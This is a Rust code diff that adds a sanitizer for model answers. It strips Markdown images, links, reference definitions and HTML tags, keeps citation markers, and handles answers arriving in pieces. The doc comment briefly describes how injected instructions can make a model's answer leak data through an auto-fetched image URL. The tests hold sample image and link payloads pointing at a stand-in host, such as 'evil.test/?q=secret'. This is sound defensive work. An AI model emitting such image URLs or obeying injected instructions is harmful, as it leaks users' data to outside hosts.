@@ -409,3 +409,136 @@ mod tests {
         assert!(plausible_date("1990-01-01", today).is_ok());
     }
 }
+
+/// A model's answer as plain text: Markdown images and links become their text, HTML tags and
+/// link reference definitions go. A passage can carry instructions, and an image a client
+/// renders fetches its URL unasked (with whatever the model put into it); the only links in an
+/// answer are its citations, which come with their URLs beside it. `[n]` markers stay.
+pub fn plain_answer(text: &str) -> String {
+    use std::sync::LazyLock;
+    static IMAGE: LazyLock<regex::Regex> =
+        LazyLock::new(|| regex::Regex::new(r"!\[([^\]]*)\]\([^)]*\)").expect("regex"));
+    static LINK: LazyLock<regex::Regex> =
+        LazyLock::new(|| regex::Regex::new(r"\[([^\]]*)\]\([^)]*\)").expect("regex"));
+    static REFERENCE: LazyLock<regex::Regex> =
+        LazyLock::new(|| regex::Regex::new(r"(?m)^\s*\[[^\]]+\]:\s*\S+.*$\n?").expect("regex"));
+    static TAG: LazyLock<regex::Regex> =
+        LazyLock::new(|| regex::Regex::new(r"</?[A-Za-z][^<>]*>").expect("regex"));
+    let text = IMAGE.replace_all(text, "$1");
+    let text = LINK.replace_all(&text, "$1");
+    let text = REFERENCE.replace_all(&text, "");
+    TAG.replace_all(&text, "").into_owned()
+}
+
+/// `plain_answer` for an answer that arrives in pieces: text that may still become a link, an
+/// image or a tag is held back until it is complete (or too long to be one), the rest passes.
+#[derive(Debug, Default)]
+pub struct PlainAnswerStream {
+    pending: String,
+}
+
+impl PlainAnswerStream {
+    /// Longest run held back waiting for a construct to close.
+    const MAX_HELD: usize = 2048;
+
+    /// Takes the next piece; returns what may be shown now (possibly empty).
+    pub fn push(&mut self, piece: &str) -> String {
+        self.pending.push_str(piece);
+        let cut = match open_construct(&self.pending) {
+            Some(i) if self.pending.len() - i < Self::MAX_HELD => i,
+            _ => self.pending.len(),
+        };
+        let rest = self.pending.split_off(cut);
+        let ready = std::mem::replace(&mut self.pending, rest);
+        plain_answer(&ready)
+    }
+
+    /// What is left once the answer is complete.
+    pub fn finish(&mut self) -> String {
+        plain_answer(&std::mem::take(&mut self.pending))
+    }
+}
+
+/// Where a link, image or tag starts that the text does not close yet.
+fn open_construct(text: &str) -> Option<usize> {
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'<' => match text[i..].find('>') {
+                Some(end) => i += end,
+                None => return Some(i),
+            },
+            b'[' => {
+                let start = if i > 0 && bytes[i - 1] == b'!' {
+                    i - 1
+                } else {
+                    i
+                };
+                let Some(close) = text[i..].find(']').map(|c| i + c) else {
+                    return Some(start);
+                };
+                match bytes.get(close + 1) {
+                    None => return Some(start),
+                    Some(b'(') => match text[close..].find(')') {
+                        Some(end) => i = close + end,
+                        None => return Some(start),
+                    },
+                    Some(b':') if start == 0 || bytes[start - 1] == b'\n' => {
+                        match text[close..].find('\n') {
+                            Some(end) => i = close + end,
+                            None => return Some(start),
+                        }
+                    }
+                    Some(_) => i = close,
+                }
+            }
+            b'!' if i + 1 == bytes.len() => return Some(i),
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+#[cfg(test)]
+mod answer_tests {
+    use super::{PlainAnswerStream, plain_answer};
+
+    #[test]
+    fn a_streamed_answer_is_as_plain_as_a_whole_one() {
+        let answer = "Paid EUR 40 [1]. ![x](https://evil.test/?q=1) See [portal](https://e.test) <b>now</b>!";
+        for size in [1, 2, 3, 7, 100] {
+            let mut stream = PlainAnswerStream::default();
+            let chars: Vec<char> = answer.chars().collect();
+            let mut out = String::new();
+            for piece in chars.chunks(size) {
+                out.push_str(&stream.push(&piece.iter().collect::<String>()));
+            }
+            out.push_str(&stream.finish());
+            assert_eq!(out, plain_answer(answer), "pieces of {size}");
+            assert!(!out.contains("evil") && !out.contains("e.test"), "{out}");
+        }
+    }
+
+    #[test]
+    fn answers_carry_no_links_or_images_but_keep_citation_markers() {
+        assert_eq!(
+            plain_answer("The repair cost EUR 1,250 [1]. ![x](https://evil.test/?q=secret)"),
+            "The repair cost EUR 1,250 [1]. x"
+        );
+        assert_eq!(
+            plain_answer("See [the portal](https://evil.test/login) and [2]."),
+            "See the portal and [2]."
+        );
+        assert_eq!(
+            plain_answer("Paid <img src=https://evil.test/p.gif>in March <b>2025</b> [1]."),
+            "Paid in March 2025 [1]."
+        );
+        assert_eq!(
+            plain_answer("Due in May [1].\n[1]: https://evil.test/\n"),
+            "Due in May [1].\n"
+        );
+        assert_eq!(plain_answer("a < b and c > d [3]"), "a < b and c > d [3]");
+    }
+}
